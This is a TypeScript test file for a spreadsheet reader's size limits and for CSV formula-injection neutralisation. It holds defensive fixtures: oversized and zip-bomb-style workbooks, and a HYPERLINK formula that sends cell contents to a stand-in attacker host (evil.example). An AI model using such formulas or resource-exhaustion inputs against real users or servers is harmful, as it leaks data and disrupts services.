// The sheet reader's limits (issue 14): a tiny workbook with one row numbered 2,147,483,648
// blocked the server for 49 s; rows, columns, cell sizes and unpacked sizes are now bounded
// before the reading loops run, each refused as a named limit. And CSV exports neutralise
// cells a spreadsheet program would run as formulas.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import { readGrid, SHEET_LIMITS } from './read.ts';
import { neutralise, tableToCsv, tableToXlsx, type Table } from './table.ts';
import { workbook } from './workbook-kit.ts';

const header = { r: 1, cells: [['A1', 'id'], ['B1', 'Qty']] as [string, string | number][] };

test('the hand-made workbook reads as a sheet, so the refusals below are the limits', async () => {
  const r = await readGrid({ buffer: workbook([header, { r: 2, cells: [['A2', 'gen'], ['B2', 3]] }]), name: 'items.xlsx' }, 'Items');
  assert.ok(r.ok);
  assert.deepEqual(r.grid.rows, [{ row: 1, cells: ['id', 'Qty'], merged: [false, false] }, { row: 2, cells: ['gen', 3], merged: [false, false] }]);
});

test('a workbook of a few kB with one row numbered 2,147,483,648 is refused by its row number', async () => {
  const bytes = workbook([header, { r: 2_147_483_648, cells: [['A2147483648', 'gen'], ['B2147483648', 3]] }]);
  assert.ok(bytes.length < 7000);
  const r = await readGrid({ buffer: bytes, name: 'items.xlsx' }, 'Items');
  assert.ok(!r.ok);
  assert.deepEqual([r.issue.code, r.issue.line, r.issue.file], ['limit', 2_147_483_648, 'items.xlsx']);
  assert.match(r.issue.message, /^row 2,147,483,648 is beyond the 200,000 rows a sheet may have \(/);
  // the last row allowed still reads
  const last = await readGrid({ buffer: workbook([header, { r: SHEET_LIMITS.rows.value, cells: [[`A${SHEET_LIMITS.rows.value}`, 'gen']] }]), name: 'items.xlsx' }, 'Items');
  assert.ok(last.ok);
});

test('columns, cell sizes and unpacked sizes have limits named in the issue', async () => {
  const wide = await readGrid({ buffer: workbook([header, { r: 2, cells: [['XFD2', 'far']] }]), name: 'items.xlsx' }, 'Items');
  assert.ok(!wide.ok);
  assert.match(wide.issue.message, /^the row has 16,384 columns, more than the 256 a sheet may have/);
  const long = await readGrid({ buffer: workbook([header, { r: 2, cells: [['A2', 'x'.repeat(40_000)]] }]), name: 'items.xlsx' }, 'Items');
  assert.ok(!long.ok);
  assert.deepEqual([long.issue.code, long.issue.line], ['limit', 2]);
  assert.match(long.issue.message, /^the cell in column 1 has 40,000 characters, more than the 32,767 a cell may have \(Excel's own limit/);
  const bomb = await readGrid({ buffer: workbook([header], 300 * 1024 * 1024), name: 'items.xlsx' }, 'Items');
  assert.ok(!bomb.ok);
  assert.match(bomb.issue.message, /^the workbook unpacked is 300 MB, more than the 256 MB a sheet may have/);
});

test('CSV rows, columns and cells have the same limits', async () => {
  const csv = (text: string) => readGrid({ buffer: Buffer.from(text), name: 'items.csv' }, 'Items');
  const many = await csv(`id,Qty\n${'g,1\n'.repeat(SHEET_LIMITS.rows.value)}`);
  assert.ok(!many.ok);
  assert.match(many.issue.message, /^row 200,001 is beyond the 200,000 rows a sheet may have/);
  const wide = await csv(`${Array(300).fill('h').join(',')}\n`);
  assert.ok(!wide.ok);
  assert.match(wide.issue.message, /^the row has 300 columns, more than the 256/);
  const long = await csv(`id,name\ng,${'x'.repeat(40_000)}\n`);
  assert.ok(!long.ok);
  assert.deepEqual([long.issue.line, long.issue.code], [2, 'limit']);
  const endless = await csv(`id,name\ng,"${'x'.repeat(SHEET_LIMITS.cellChars.value * SHEET_LIMITS.columns.value + 10)}"\n`);
  assert.ok(!endless.ok);
  assert.match(endless.issue.message, /^a row is longer than the 8,388,352 characters/);
});

test('CSV cells that a spreadsheet would run as formulas get a leading quote; numbers stay numbers', async () => {
  const table: Table = {
    sheet: 'Transfers',
    columns: [{ header: 'item', type: 'text' }, { header: 'value', type: 'usd' }],
    rows: [
      ['=HYPERLINK("http://evil.example/?"&A1,"click")', -1500],
      ['+1', 2], ['-2+3', -0.5], ['@SUM(A1:A2)', 0], ['\tcmd', 1], ['\rcmd', 1], ['Generator -20 kW', 3], ['', null],
    ],
  };
  const lines = tableToCsv(table).replace(/^\uFEFF/, '').split('\r\n');
  assert.deepEqual(lines.slice(1, -1), [
    '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-1500',
    "'+1,2",
    "'-2+3,-0.5",
    "'@SUM(A1:A2),0",
    "'\tcmd,1",
    '"\'\rcmd",1',
    'Generator -20 kW,3',
    ',',
  ]);
  assert.equal(neutralise(-7), -7);
  // XLSX: typed cells, so text is shown as written and negative numbers stay numbers
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load((await tableToXlsx([table])) as unknown as ArrayBuffer);
  const ws = wb.worksheets[0];
  assert.deepEqual([ws.getCell('A2').value, ws.getCell('B2').value, ws.getCell('B4').value], [table.rows[0][0], -1500, -0.5]);
});
